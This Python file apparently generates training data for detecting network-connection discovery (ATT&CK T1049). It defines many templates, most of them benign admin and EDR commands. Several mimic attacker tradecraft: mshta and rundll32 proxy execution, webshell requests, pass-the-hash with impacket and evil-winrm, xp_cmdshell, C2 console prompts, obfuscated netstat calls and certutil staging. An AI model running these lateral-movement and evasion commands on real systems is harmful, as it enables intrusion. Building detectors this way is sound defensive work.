"""Still more ways of T1049 and of its near misses: other languages, products, appliances, remote forms and outputs."""

from __future__ import annotations

from training.generators.grammar import parse_templates

MORE_CONNECTION_TEMPLATES = parse_templates(
    r"""
mc-forfiles cmd: forfiles /p C:\Windows\System32 /m «notepad.exe¦calc.exe¦cmd.exe» /c "cmd /c netstat -«ano¦an¦anob»«¦ >> ‹dir›\‹name›.txt»"
mc-pcalua cmd: pcalua«.exe¦» -a «netstat.exe -c -ano¦cmd.exe -c "/c netstat -an > ‹dir›\‹name›.log"¦C:\Windows\System32\netstat.exe -c -anob»
mc-conhost cmd: conhost.exe «--headless ¦»«netstat -ano¦cmd /c net session¦cmd /c netstat -an > ‹dir›\‹name›.txt»
mc-mshta cmd: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c «netstat -ano¦net use¦net session» > ‹dir›\‹name›.txt"",0:close")
mc-mshta-js cmd: mshta "javascript:new ActiveXObject('WScript.Shell').Run('cmd /c netstat -«ano¦anb» > ‹name›.log',0);close()"
mc-rundll-js cmd: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";new%20ActiveXObject("WScript.Shell").Run("cmd /c netstat -«an¦ano» >> %TEMP%\‹name›.txt",0,true);
mc-cscript-file cmd: cscript «//nologo ¦/b //nologo ¦//e:vbscript »‹dir›\«netstat¦connections¦sessions¦openfiles».vbs«¦ ‹server›¦ > ‹file›»
mc-vbs-exec text: Set e = CreateObject("WScript.Shell").Exec("«netstat -ano¦net session¦net use¦openfiles /query»"): WScript.Echo e.StdOut.ReadAll
mc-vbs-run text: CreateObject("WScript.Shell").Run "%comspec% /c «netstat -anob¦net file¦nbtstat -S» > ‹dir›\‹name›.txt", 0, True
mc-vbs-cimv text: Set s = GetObject("winmgmts:{impersonationLevel=impersonate}!\\‹server›\root\StandardCimv2").InstancesOf("MSFT_Net«TCPConnection¦UDPEndpoint»")
mc-vbs-session-link text: For Each x In GetObject("winmgmts:\\«.¦‹server›»\root\cimv2").InstancesOf("Win32_«SessionConnection¦ConnectionShare»"): WScript.Echo x.Dependent: Next
mc-js-exec text: var e = new ActiveXObject("WScript.Shell").Exec("«netstat -ano¦net sessions¦net1 file»"); WScript.Echo(e.StdOut.ReadAll());
mc-js-enum text: var d = new ActiveXObject("WScript.Network").EnumNetworkDrives(); for (i = 0; i < d.length; i += 2) WScript.Echo(d.Item(i) + " " + d.Item(i + 1));
mc-vba text: Shell "cmd.exe /c «netstat -ano¦net use¦net session» > " & Environ("TEMP") & "\‹name›.txt", vbHide
mc-vba-tcptable text: Private Declare PtrSafe Function «GetTcpTable¦GetExtendedTcpTable¦GetUdpTable» Lib "iphlpapi.dll" (ByRef pTcpTable As Any, ByRef pdwSize As Long, ByVal bOrder As Long) As Long
mc-ps-function powershell: Get-NetworkStatistics«¦ -ComputerName ‹server›¦ -State LISTENING¦ -ProcessName ‹name›¦ | Format-Table -AutoSize»
mc-ps-function-text powershell: function Get-Connections { netstat -«ano¦nao» | select -Skip 4 | % { $f = $_ -split '\s+'; [pscustomobject]@{Local=$f[2];Remote=$f[3];«Pid¦Owner»=$f[-1]} } }; Get-Connections
mc-ps-poshc text: «PS ‹n›> get-netstat¦‹user› @ ‹server› (PID:‹pid›) PS ‹n›> get-netstat¦PS ‹n›> invoke-netstat»
mc-ps-gridview powershell: Get-NetTCPConnection«¦ -State Listen,Established» | Out-GridView«¦ -Title '‹Word›'¦ -PassThru»
mc-ps-measure powershell: «(Get-NetTCPConnection -State Established).Count¦Get-NetTCPConnection -State TimeWait | Measure-Object¦@(Get-NetUDPEndpoint).Length¦(Get-SmbSession | measure).Count»
mc-ps-join powershell: Get-NetTCPConnection | Sort-Object «RemoteAddress -Unique¦LocalPort¦State,RemotePort» | «ft -Auto¦Select-Object -First ‹n›¦ConvertTo-Csv -NoTypeInformation»
mc-ps-html powershell: Get-NetTCPConnection -State «Established¦Listen» | ConvertTo-Html«¦ -Title ‹server›» | «Out-File¦Set-Content» ‹file›
mc-ps-clixml powershell: Get-«NetTCPConnection¦NetUDPEndpoint¦SmbSession¦SmbOpenFile» | Export-Clixml ‹file›
mc-ps-service powershell: Get-NetTCPConnection | select LocalPort,RemoteAddress,@{n='«Svc¦Service»';e={(Get-CimInstance Win32_Service -Filter "ProcessId=$($_.OwningProcess)").Name}}
mc-ps-path powershell: Get-NetTCPConnection -State Established | %{ $p = Get-Process -Id $_.OwningProcess«¦ -FileVersionInfo»; "$($_.RemoteAddress):$($_.RemotePort) $($p.Path)" }
mc-ps-offload powershell: «Get-NetTCPConnection -OffloadState InHost¦Get-NetTCPConnection -State Bound,Listen¦Get-NetTCPConnection -LocalAddress ‹ip›¦Get-NetTCPConnection -CreationTime (Get-Date).Date»
mc-ps-creation powershell: Get-NetTCPConnection | ? CreationTime -gt (Get-Date).Add«Minutes(-‹n›)¦Hours(-1)¦Days(-1)» | select Local*,Remote*,State
mc-ps-job powershell: «Start-Job¦Start-ThreadJob¦Invoke-Command -AsJob -ComputerName ‹server›» -ScriptBlock { «netstat -ano¦Get-NetTCPConnection» } | «Receive-Job -Wait¦Wait-Job»
mc-ps-scheduled powershell: Register-ScheduledJob -Name ‹name› -ScriptBlock { Get-«NetTCPConnection¦SmbSession» | Export-Csv ‹dir›\‹name›.csv -Append } -Trigger (New-JobTrigger -Once -At 3am)
mc-ps-task powershell: $a = New-ScheduledTaskAction -Execute «cmd.exe¦powershell.exe» -Argument '/c netstat -«ano¦anob» >> ‹dir›\‹name›.log'; Register-ScheduledTask ‹name› -Action $a
mc-ps-wmi-create powershell: «Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create¦([wmiclass]'\\‹server›\root\cimv2:Win32_Process').Create» «-ArgumentList 'cmd /c netstat -ano > C:\Windows\Temp\‹name›.txt'¦('netstat -an')»
mc-ps-cim-create powershell: Invoke-CimMethod -CimSession ‹server› -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='cmd /c «netstat -ano¦net session¦net use» > \\‹server›\‹project›\‹name›.txt'}
mc-ps-hostname powershell: Invoke-Command -HostName ‹server› -UserName ‹user› { «netstat -ano¦Get-NetTCPConnection -State Listen¦ss -tulpn» }
mc-ps-list-servers powershell: foreach ($s in (Get-ADComputer -Filter * ).Name) { Invoke-Command $s { «Get-NetTCPConnection -State Established¦net session¦Get-SmbOpenFile» } -ErrorAction SilentlyContinue }
mc-ps-direct powershell: Invoke-Command -VMName ‹name› -Credential $c -ScriptBlock { netstat -«ano¦anob» }
mc-ps-session-prompt text: [‹server›]: PS C:\Users\‹user›\Documents> «netstat -ano¦Get-NetTCPConnection -State Established¦net session¦Get-SmbSession¦Get-SmbOpenFile»
mc-evil-winrm text: *Evil-WinRM* PS C:\Users\‹user›\Documents> «netstat -ano | findstr LISTENING¦Get-NetTCPConnection -State Listen¦net use¦netstat -an»
mc-evil-winrm-shell bash: evil-winrm -i ‹ip› -u ‹user› -«p '‹pass›'¦H ‹hash›» <<< '«netstat -ano¦Get-NetTCPConnection»'
mc-ps-multichannel powershell: Get-SmbMultichannelConnection«¦ -ServerName ‹server›¦ | ft ServerName,ClientIPAddress,ServerIPAddress¦ -IncludeNotSelected»
mc-ps-nfs powershell: «Get-NfsSession¦Get-NfsOpenFile¦Get-NfsMountedClient»«¦ | ft ClientComputer¦ -CimSession ‹server›»
mc-ps-smb-witness powershell: Get-SmbSession | select ClientComputerName,«Dialect,NumOpens¦ClientUserName,SecondsIdle¦SessionId,NumOpens» | sort NumOpens
mc-ps-smb-dialect powershell: Get-SmbConnection | «? Dialect -lt 3¦select ServerName,Dialect,Signed,Encrypted¦group ServerName»
mc-ps-smb-share-use powershell: Get-SmbOpenFile | «group ShareRelativePath¦sort Path | select -Unique Path¦? Path -like '*‹project›*'» | «ft -Auto¦ConvertTo-Json»
mc-ps-cluster powershell: Get-SmbSession -SmbInstance «CSV¦Default¦All»«¦ | ft¦ -CimSession ‹server›»
mc-ps-assoc powershell: «Get-CimInstance¦gwmi¦gcim» Win32_«SessionConnection¦ConnectionShare¦ServerSession¦SessionResource»« -ComputerName ‹server›¦ | select Antecedent,Dependent¦»
mc-wmic-assoc cmd: wmic path Win32_«SessionConnection¦ConnectionShare» get «Antecedent,Dependent¦/value¦* /format:list»
mc-ps-netuse-com powershell: (New-Object -ComObject WScript.Network).EnumNetworkDrives()«¦ | % { $_ }¦ | Out-String»
mc-ps-reflect powershell: [Reflection.Assembly]::LoadWithPartialName('System.Net.NetworkInformation')|Out-Null; [Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActive«TcpConnections¦TcpListeners»() | % { $_.«LocalEndPoint¦ToString()» }
mc-ps-tcptable-owner powershell: $r = [«Native¦NT¦‹Word›»]::«GetTcpTable2¦GetOwnerModuleFromTcpEntry¦GetTcp6Table2¦GetExtendedUdpTable»($buf, [ref]$size, $true)
mc-ps-wnet powershell: Add-Type -Name «Mpr¦W» -Namespace ‹Word› -MemberDefinition '[DllImport("mpr.dll")] public static extern int «WNetOpenEnum(int s, int t, int u, IntPtr n, out IntPtr h);¦WNetEnumResource(IntPtr h, ref int c, IntPtr b, ref int s);»'
mc-ps-netuseenum powershell: Add-Type -MemberDefinition '[DllImport("netapi32.dll")] public static extern int «NetUseEnum(string s, int l, out IntPtr b, int m, out int r, out int t, ref int h);¦NetFileEnum(string s, string p, string u, int l, out IntPtr b, int m, out int r, out int t, IntPtr h);»' -Name N -Namespace ‹Word›
mc-cs-wnet text: WNetOpenEnum(RESOURCE_CONNECTED, RESOURCETYPE_«DISK¦ANY», 0, null, out hEnum); WNetEnumResource(hEnum, ref count, buffer, ref size);
mc-cs-netfile text: int res = «NetFileEnum(server, null, null, 3, out buf¦NetSessionEnum(server, null, null, 502, out buf¦NetConnectionEnum(server, share, 1, out buf¦NetUseEnum(null, 2, out buf», -1, out read, out total, ref resume);
mc-cs-process text: Process.Start(new ProcessStartInfo("«netstat¦netstat.exe¦cmd.exe /c netstat¦NETSTAT.EXE»", "-«ano¦an¦a -n -o») { RedirectStandardOutput = true, UseShellExecute = false })
mc-cs-wmi text: new ManagementObjectSearcher(@"root\«StandardCimv2", "SELECT * FROM MSFT_NetTCPConnection¦cimv2", "SELECT * FROM Win32_NetworkConnection¦cimv2", "SELECT * FROM Win32_ServerSession¦Microsoft\Windows\SMB", "SELECT * FROM MSFT_SmbSession»").Get()
mc-c-tcptable text: if («GetTcpTable2(table, &size, TRUE)¦GetExtendedTcpTable(table, &size, FALSE, AF_INET, TCP_TABLE_OWNER_PID_ALL, 0)¦GetUdpTable(table, &size, TRUE)¦AllocateAndGetTcpExTableFromStack(&table, TRUE, GetProcessHeap(), 2, 2)») == NO_ERROR) for (i = 0; i < table->dwNumEntries; i++) printf("%d\n", ntohs(table->table[i].dwLocalPort));
mc-go-tcptable text: «conns, err := net.Connections("all")¦tabs, err := netstat.TCPSocks(netstat.NoopFilter)¦socks, err := netstat.UDPSocks(func(s *netstat.SockTabEntry) bool { return s.State == netstat.Listen })¦out, _ := exec.Command("netstat", "-ano").Output()»
mc-rust-sockets text: let sockets = «netstat2::get_sockets_info(AddressFamilyFlags::IPV4, ProtocolFlags::TCP)?;¦listeners::get_all()?;¦Command::new("netstat").arg("-ano").output()?;¦netstat2::iterate_sockets_info(af, proto)?;»
mc-java-connections text: «Runtime.getRuntime().exec("netstat -ano").getInputStream()¦new SystemInfo().getOperatingSystem().getInternetProtocolStats().getConnections()¦new ProcessBuilder("cmd", "/c", "netstat -an").start()¦Files.readAllLines(Paths.get("/proc/net/tcp"))»
mc-node-win cmd: node -«e¦p» "require('child_process').execSync('«netstat -ano¦net session¦net use»').toString()"
mc-node-si cmd: node -e "require('systeminformation').networkConnections().then(«console.log¦c=>console.table(c)¦c=>console.log(c.length)»)"
mc-py-wmi cmd: «python¦py -3» -c "import wmi; print(wmi.WMI(«).Win32_NetworkConnection¦).Win32_ServerSession¦namespace='root/StandardCimv2').MSFT_NetTCPConnection¦'‹server›').Win32_ServerConnection»())"
mc-py-win-net cmd: py -c "import win32net; print(win32net.«NetUseEnum(None, 1)¦NetFileEnum(None, 3)¦NetFileEnum('\\\\‹server›', 3)¦NetConnectionEnum('‹server›', 'IPC$', 1)»)"
mc-py-win-wnet cmd: python -c "import win32wnet as w, win32netcon as n; h=w.WNetOpenEnum(n.RESOURCE_CONNECTED«¦, 0», 0, None); print([r.lpRemoteName for r in w.WNetEnumResource(h, 0)])"
mc-py-subprocess cmd: python -c "import subprocess; print(subprocess.run('«netstat -ano¦net session¦netsh int ipv4 show tcpconnections¦net use»', shell=True, capture_output=True, text=True).stdout)"
mc-perl-win cmd: perl -MWin32::«OLE=in -e "print $_->{RemoteAddress} for in Win32::OLE->GetObject('winmgmts:root/StandardCimv2')->InstancesOf('MSFT_NetTCPConnection')"¦NetResource -e "Win32::NetResource::GetSharedResources($r, RESOURCETYPE_ANY, {dwScope => RESOURCE_CONNECTED})"»
mc-php-win cmd: php -r "«passthru('netstat -ano');¦echo shell_exec('net session');¦system('net use');»"
mc-ruby-win cmd: ruby -e "«require 'win32ole'; WIN32OLE.connect('winmgmts://./root/StandardCimv2').InstancesOf('MSFT_NetTCPConnection').each { |c| p c.RemoteAddress }¦puts `netstat -ano`¦puts `net session`»"
mc-autohotkey text: «RunWait, %ComSpec% /c netstat -ano > ‹dir›\‹name›.txt,, Hide¦RunWait(A_ComSpec ' /c netstat -an > "‹dir›\‹name›.txt"',, 'Hide')¦$iPID = Run(@ComSpec & " /c netstat -ano", "", @SW_HIDE, 2)»
mc-webshell text: GET /«uploads¦images¦aspnet_client¦owa/auth»/‹name›.«aspx¦asp¦ashx»?«cmd¦c¦exec»=netstat+-«ano¦an¦anb» HTTP/1.1
mc-webshell-post text: POST /‹word›/‹name›.«jsp¦php¦aspx» HTTP/1.1 cmd=«netstat%20-ano¦net%20session¦net+use¦ss%20-tulpn»
mc-groovy text: println "«netstat -ano¦netstat -tulpn¦ss -tan¦net session»".execute().text
mc-jenkins text: «bat 'netstat -ano > ‹name›.txt'¦powershell 'Get-NetTCPConnection | Out-String'¦sh 'ss -tulpn | tee ‹name›.txt'¦sh "netstat -antp"»
mc-postgres text: COPY ‹name› FROM PROGRAM '«netstat -ano¦netstat -antp¦ss -tunap¦cat /proc/net/tcp»';
mc-mysql-sys text: «SELECT sys_eval('netstat -ano');¦SELECT sys_exec('netstat -antp > /tmp/‹name›');¦\! netstat -antp¦system ss -tulpn»
mc-oracle-host text: «SQL> host netstat -an¦SQL> ! ss -tulpn¦BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'‹name›',job_type=>'EXECUTABLE',job_action=>'/bin/netstat -an',enabled=>TRUE); END;»
mc-mssql-client bash: «mssqlclient.py¦impacket-mssqlclient» ‹domain›/‹user›:'‹pass›'@‹ip› -windows-auth -command "xp_cmdshell «netstat -ano¦net session¦netstat -an»"
mc-mssql-prompt text: SQL («sa¦‹domain›\‹user›»  dbo@master)> xp_cmdshell «netstat -ano¦netstat -an | find "LISTENING"¦net use»
mc-nxc-mssql bash: nxc mssql ‹ip› -u ‹user› -p '‹pass›' «--local-auth ¦»-x "«netstat -ano¦net session»"
mc-salt bash: salt «'*'¦-G 'os:Windows'¦‹word›-‹n›» «network.netstat¦network.active_tcp¦cmd.run 'netstat -an'¦cmd.run 'Get-NetTCPConnection' shell=powershell»
mc-salt-call bash: salt-call «--local ¦»network.«netstat¦active_tcp»«¦ --out=json»
mc-salt-cmd bash: salt -«L '‹server›,‹word›'¦E 'web.*'¦C 'G@os:Ubuntu'» cmd.run "«ss -tulpn¦netstat -antp¦lsof -i -P -n¦smbstatus»"
mc-ansible-win bash: ansible «windows¦‹project›» -m «win_shell¦win_command¦ansible.windows.win_shell» -a "«netstat -ano¦Get-NetTCPConnection -State Listen¦net session»"
mc-ansible-play text: - name: «Collect connections¦List sockets¦‹Word›» ansible.builtin.«shell: netstat -tulpn¦command: ss -tunap¦command: lsof -i -P -n»
mc-ansible-facts bash: ansible ‹word› -m community.general.listen_ports_facts«¦ -a 'command=ss'¦ -b»
mc-bolt bash: bolt command run '«netstat -ano¦ss -tulpn¦lsof -nPi»' «-t¦--targets» «winrm://‹server›¦‹ip›¦@‹lfile›»«¦ --user ‹user›»
mc-knife bash: knife «ssh 'name:*'¦winrm 'os:windows'¦ssh 'role:‹word›'» '«netstat -an¦ss -tan¦netstat -ano»'«¦ -x ‹user›»
mc-pdsh bash: «pdsh -w ‹word›[1-‹n›]¦clush -a¦pssh -h ‹lfile› -i¦parallel-ssh -H '‹ip› ‹ip›' -i¦dsh -M -g ‹word›» '«ss -tunap¦netstat -antp¦lsof -i -n»'
mc-fabric bash: fab -H ‹ip›,‹ip› -- "«netstat -tulpn¦ss -tan¦cat /proc/net/tcp»"
mc-sccm-cmpivot text: CMPivot> «Connection | where RemotePort == ‹port›¦Connection | summarize count() by RemoteAddress¦Connection | project Device, ProcessName, RemoteAddress¦Connection | order by RemotePort»
mc-sccm-script powershell: Invoke-CMScript -ScriptName '«Get-Netstat¦List connections¦Get open sessions»' -«CollectionId SMS‹pid›¦Device (Get-CMDevice -Name ‹server›)»
mc-pdq cmd: PDQ«Inventory¦Deploy».exe «ScanComputers -Computers ‹server› -ScanProfile "Netstat"¦Deploy -Package "netstat -ano" -Targets ‹server›»
mc-paexec cmd: «paexec.exe \\‹server› -s cmd /c netstat -ano¦remcom.exe \\‹server› netstat -an¦csexec.exe \\‹server› netstat -ano»
mc-winexe bash: winexe -U '‹domain›/‹user›%‹pass›' //‹ip› '«netstat -ano¦net session¦cmd /c net use»'
mc-dcomexec bash: «dcomexec.py¦impacket-dcomexec» -object «MMC20¦ShellWindows¦ShellBrowserWindow» ‹domain›/‹user›:'‹pass›'@‹ip› '«netstat -ano¦net session¦net use»'
mc-atexec-hash bash: «atexec.py¦impacket-atexec» -hashes :‹hash› ‹domain›/‹user›@‹ip› "«netstat -an¦net session¦openfiles /query»"
mc-psexecsvc bash: impacket-psexec -k -no-pass ‹domain›/‹user›@‹host›.‹fqdn› "cmd.exe /c «netstat -ano¦net file¦net session»"
mc-impacket-srvs text: srvs.«hNetrSessionEnum(dce, NULL, NULL, 10)¦hNetrFileEnum(dce, NULL, NULL, 3)¦hNetrConnectionEnum(dce, 'IPC$', 1)¦hNetrSessionEnum(dce, '\x00', '\x00', 502)»
mc-impacket-py bash: python3 -c "from impacket.dcerpc.v5 import transport,srvs; r=transport.DCERPCTransportFactory(r'ncacn_np:‹ip›[\pipe\srvsvc]').get_dce_rpc(); r.connect(); r.bind(srvs.MSRPC_UUID_SRVS); print(srvs.«hNetrSessionEnum(r,'\x00','\x00',10)¦hNetrFileEnum(r,'\x00','\x00',3)»)"
mc-wmiquery bash: «wmiquery.py¦impacket-wmiquery» -namespace '//./root/«StandardCimv2' ‹domain›/‹user›:‹pass›@‹ip› <<< 'SELECT * FROM MSFT_NetTCPConnection'¦cimv2' ‹user›:‹pass›@‹ip› <<< 'SELECT * FROM Win32_ServerSession'»
mc-wmic-linux bash: wmic -U '‹domain›/‹user›%‹pass›' //‹ip› "«select UserName,ComputerName from Win32_ServerSession¦select * from Win32_NetworkConnection¦select * from Win32_ServerConnection»"
mc-nxc-wmi bash: «nxc¦netexec¦crackmapexec» «smb¦wmi» ‹ip› -u ‹user› -p '‹pass›' --wmi "select «* from MSFT_NetTCPConnection¦ComputerName from Win32_ServerSession»" --wmi-namespace 'root\«standardcimv2¦cimv2»'
mc-nxc-module bash: nxc smb ‹ip›/24 -u ‹user› -p '‹pass›' «-d ‹domain› --smb-sessions¦--smb-sessions --no-bruteforce¦--smb-sessions --log ‹lfile›»
mc-smbmap bash: smbmap -u ‹user› -p '‹pass›' «-d ‹domain› ¦»-H ‹ip› -x '«netstat -ano¦net session¦net use»'
mc-metasploit-use text: msf6 «> sessions -i ‹n› -c 'ss -tulpn'¦post(multi/manage/shell_to_meterpreter) > sessions -c 'netstat -an' -i ‹n›¦> sessions -C netstat -i ‹n›¦> use post/linux/gather/enum_network»
mc-meterpreter text: meterpreter > «netstat -h; netstat¦execute -H -i -f cmd.exe -a '/c netstat -ano'¦shell -c 'netstat -ano'¦netstat -S tcp»
mc-sa-bof text: «[‹domain›] beacon> ¦beacon> ¦[server] sliver (‹word›) > sa-¦havoc> »«netstat¦get-netsession ‹server›¦get-netsession¦get-netsession2 ‹server› 1»
mc-mythic text: «apollo¦poseidon¦athena¦merlin» > «netstat¦netstat -tcp -listen¦shell netstat -ano¦run -Executable netstat -Arguments -ano»
mc-brute-ratel text: [«‹user›¦SYSTEM»*‹server›] $ «netstat¦run netstat -ano¦sharpinline /opt/SharpView.exe Get-NetSession»
mc-empire text: (Empire: «agents) > usemodule powershell/situational_awareness/network/powerview/get_session¦‹letters8›) > shell netstat -ano¦usemodule/powershell/situational_awareness/network/powerview/get_session) > set ComputerName ‹server›»
mc-covenant text: («‹user›¦‹domain›\‹user›») > «GetNetSession ‹server›¦GetNetSession /computernames:"‹server›"¦PowerShell /powershellcommand:"Get-NetTCPConnection"¦Shell /shellcommand:"netstat -ano"»
mc-koadic text: (koadic: «sta/js/mshta¦cmd.‹n›)» # cmdshell ‹n›; [koadic: ZOMBIE ‹n› (‹ip›)]> netstat -«ano¦an»
mc-cmd-c2 text: «{"task":"shell","args":"netstat -ano"}¦{"command":"netstat","params":""}¦{"type":"exec","cmd":"net session","id":‹pid›}¦task_id=‹pid›&cmd=netstat%20-ano»
mc-havoc text: ‹first› > shell «netstat -ano | findstr ESTABLISHED¦net sessions¦netstat -anob¦net use»
mc-psfile cmd: «psfile¦psfile.exe¦psfile64.exe¦‹dir›\psfile64.exe» «\\‹server›¦-accepteula¦\\‹server› -u ‹user› -p ‹pass›¦\\‹server› "‹dir›"»«¦ > ‹file›»
mc-network-opened cmd: ‹dir›\NetworkOpenedFiles.exe /«stext¦scomma¦shtml¦sxml» ‹file›
mc-nir-tcplog cmd: ‹dir›\«TcpLogView.exe¦CurrPorts.exe /scomma ‹file›¦LiveTcpUdpWatch.exe /sxml ‹file›¦LiveTcpUdpWatch.exe /stext ‹file›»
mc-portqry-local cmd: «portqry¦portqry.exe¦‹dir›\PortQry.exe» -«local¦local -v¦local -l ‹file›¦wport ‹port› -v¦wpid ‹pid›»
mc-rasdial cmd: rasdial«¦.exe»« | find "Connected"¦ > ‹file›¦ & netstat -ano»
mc-powershell-vpn powershell: «Get-RemoteAccessConnectionStatistics¦Get-RemoteAccessConnectionStatistics | ft UserName,ClientIPv4Address,HostName¦Get-VpnConnection | ? ConnectionStatus -eq Connected»
mc-netsh-ras cmd: netsh ras show «client¦client name=‹user›»
mc-netsh-context cmd: «echo interface ipv4 show tcpconnections | netsh¦netsh -c "interface ipv4" show tcpconnections¦netsh interface ip show tcpstats & netsh interface ip show tcpconnections¦netsh -f ‹dir›\‹name›.txt & netsh int ipv4 show udpconnections»
mc-netsh-long cmd: netsh interface «ipv4¦ipv6» show tcpconnections state=«listen¦established¦time-wait» localaddress=‹ip›
mc-openfiles-filter cmd: openfiles /query /fo «csv¦list¦table» /v | findstr /i "«read¦write¦\\‹project›¦‹domain›»" > ‹file›
mc-netstat-timed cmd: netstat -«anot¦aot¦ant¦nbat» | find «"Offloaded"¦"ESTABLISHED"¦":443"»
mc-netstat-xy cmd: netstat -«x¦y¦xan¦anq¦abf¦aqno»« > ‹file›¦ | more»
mc-netstat-timeout cmd: for /l %«i¦n» in (1,1,‹n›) do @(netstat -«an¦ano» >> ‹dir›\‹name›.log & timeout /t ‹n› /nobreak >nul)
mc-netstat-goto cmd: for /l %i in () do @(netstat -ano | findstr ":‹port› " & «ping -n ‹n› 127.0.0.1 >nul¦timeout ‹n›»)
mc-netstat-setp cmd: for /f "tokens=*" %a in ('netstat -ano ^| findstr "LISTENING"') do @set line=%a «&& call echo %line%¦& echo %a»>> ‹file›
mc-netstat-port-process cmd: for /f "tokens=5" %p in ('netstat -«ano¦nao» ^| findstr :‹port›') do @«wmic process where processid=%p get name,executablepath¦powershell Get-Process -Id %p¦tasklist /svc /fi "PID eq %p"»
mc-netstat-remote-copy cmd: psexec -s \\‹server› cmd /c "netstat -anob > \\‹server›\C$\«Temp¦Windows\Temp»\‹name›.txt"
mc-netstat-at cmd: at «\\‹server› »13:‹n› cmd /c "netstat -an > C:\‹name›.txt"
mc-netstat-certutil cmd: netstat -«ano¦anob» > %TEMP%\‹name›.txt && certutil -encode %TEMP%\‹name›.txt %TEMP%\‹name›.b64
mc-netstat-7z cmd: (netstat -ano & net session & net use & arp -a) > ‹dir›\‹name›.txt & «7z a ‹name›.zip ‹dir›\‹name›.txt¦makecab ‹dir›\‹name›.txt¦tar -cf ‹name›.tar ‹dir›\‹name›.txt»
mc-triage-batch cmd: «(tasklist /v & netstat -anob & schtasks /query) > ‹dir›\‹name›.txt¦systeminfo & tasklist & netstat -ano & net start¦ipconfig /displaydns & netstat -nao & openfiles /query»
mc-net-quiet cmd: «net use 2>nul | find "\\" /c¦net session | find /c "\\"¦net session 2>nul | more +3¦net file | more»
mc-net-remote-share cmd: «net use & wmic netuse list full¦net session & query user¦net use & dir \\‹server›\‹project›»
mc-net-caret cmd: cmd /c "n^et^s^tat -«a^no¦an^o» & n^et s^ess^ion"
mc-net-var cmd: set x=net&& call %x%stat -«ano¦an»
mc-kape cmd: ‹dir›\kape.exe --msource C:\ --mdest ‹dir› --module «PowerShell_TCPConnections¦PowerShell_SMBSession,PowerShell_SMBMapping¦PowerShell_SMBOpenFile¦Windows_Net_Use,Windows_Net_File¦Windows_nbtstat_NetBIOSSessions¦Powershell_Network_Connections_Status»
mc-velociraptor cmd: velociraptor«.exe¦-v0.7.exe» «artifacts collect Windows.Network.Netstat¦artifacts collect Windows.Network.NetstatEnriched --output ‹name›.zip¦query "SELECT Pid, Laddr, Raddr, Status FROM netstat()"¦-v artifacts collect Windows.Network.ListeningPorts»
mc-velociraptor-vql text: SELECT Pid, Laddr.IP, Laddr.Port, Raddr.IP, Status FROM «netstat()¦netstat() WHERE Status =~ "ESTAB"¦Artifact.Windows.Network.Netstat()¦Artifact.Windows.Network.NetstatEnriched()»
mc-velociraptor-linux bash: «sudo ¦»velociraptor «artifacts collect Linux.Network.Netstat¦artifacts collect Linux.Network.NetstatEnriched --format json¦query 'SELECT * FROM connections()'»
mc-grr text: In [‹n›]: grrapi.Client("C.‹hex›").CreateFlow(name="Netstat"«¦, args=args¦, runner_args=r»)
mc-osquery-events text: SELECT «pid, remote_address, remote_port FROM process_open_sockets WHERE remote_port NOT IN (0)¦address, port, protocol FROM listening_ports WHERE port = ‹port›¦p.name, l.port FROM listening_ports l JOIN processes p USING (pid)¦* FROM process_open_sockets WHERE state = 'ESTABLISHED'»;
mc-osquery-fleet bash: fleetctl query --«hosts ‹server›¦labels 'All Hosts'» --query '«SELECT * FROM listening_ports¦SELECT pid, remote_address FROM process_open_sockets»'
mc-falcon-rtr text: «runscript -Raw=```netstat -ano```¦netstat¦runscript -CloudFile="Get-NetTCPConnection"¦C:\> netstat (Real Time Response, host ‹server›)»
mc-falcon-psfalcon powershell: Invoke-FalconRtr -Command «netstat -HostId ‹hash›¦runscript -Argument '-Raw=```Get-NetTCPConnection```' -HostId ‹hash›»
mc-mde-live text: C:\> «connections¦connections -output json¦connections &» [Live response session on ‹server›]
mc-edr-console text: «[Carbon Black Live Response] execfg netstat -ano¦[SentinelOne Remote Shell] PS C:\> netstat -anob¦[Cortex XDR Live Terminal] netstat -ano¦[Elastic Defend] execute --command "netstat -ano"¦[Sophos Live Response] C:\> netstat -ano»
mc-tanium text: Get «Established Connections from all machines¦Open Port and Computer Name from all machines¦Listen Ports with Process from all machines with Computer Name contains ‹server›¦Computer Name and Established Ports by Process from all machines»
mc-edr-elastic text: execute --command "«netstat -ano¦ss -tulpn¦lsof -i -P»" --comment "«triage¦case ‹pid›¦‹word›»"
mc-aws-ssm bash: aws ssm send-command --document-name «AWS-RunPowerShellScript --parameters 'commands=["netstat -ano"]'¦AWS-RunShellScript --parameters 'commands=["ss -tulpn"]'¦AWS-RunPowerShellScript --parameters commands="Get-NetTCPConnection"» --instance-ids i-0‹hash›
mc-az-vm bash: az vm run-command invoke -g ‹project› -n ‹server› --command-id «RunPowerShellScript --scripts "Get-NetTCPConnection -State Established"¦RunShellScript --scripts "ss -tunap"¦RunPowerShellScript --scripts "netstat -ano"»
mc-az-ps powershell: Invoke-AzVMRunCommand -ResourceGroupName ‹project› -VMName ‹server› -CommandId «RunPowerShellScript¦RunShellScript» -ScriptString '«netstat -ano¦Get-SmbSession¦ss -tulpn»'
mc-gcloud bash: gcloud compute ssh ‹word›-‹n› --zone us-central1-a --command "«sudo ss -tulpn¦netstat -antp¦sudo lsof -i -P -n»"
mc-oci bash: oci instance-agent command create --content '{"source":{"sourceType":"TEXT","text":"«netstat -an¦ss -tan»"}}' --target '{"instanceId":"ocid1.instance.‹name›"}'
mc-ecs-exec bash: «aws ecs execute-command --cluster ‹word› --task ‹hash› --interactive --command "netstat -an"¦az container exec -g ‹word› -n ‹name› --exec-command "ss -tan"¦fly ssh console -C "ss -tulpn"¦heroku ps:exec -a ‹word› "netstat -an"»
mc-vmware-guest bash: «govc guest.run -vm ‹word› -l ‹user›:‹pass› C:\\Windows\\System32\\netstat.exe -ano¦govc guest.run -vm ‹word› /bin/ss -tulpn¦vmrun -gu ‹user› -gp ‹pass› runProgramInGuest ‹word›.vmx /bin/netstat -an»
mc-vmware-guest-ps powershell: Invoke-VMScript -VM ‹server› -ScriptText '«netstat -ano¦Get-NetTCPConnection¦ss -tulpn»' -GuestUser ‹user› -GuestPassword '‹pass›'
